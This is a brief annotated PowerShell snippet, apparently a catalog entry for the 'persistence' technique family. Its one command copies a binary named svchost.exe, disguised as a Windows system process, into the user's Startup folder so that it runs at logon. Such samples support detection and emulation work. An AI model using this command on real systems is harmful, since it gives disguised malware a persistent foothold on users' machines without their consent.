# description: Copies a binary into the user's Startup folder so it runs at logon.
# family: persistence
Copy-Item -Path C:\Users\Public\svchost.exe -Destination "$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\svchost.exe" -Force
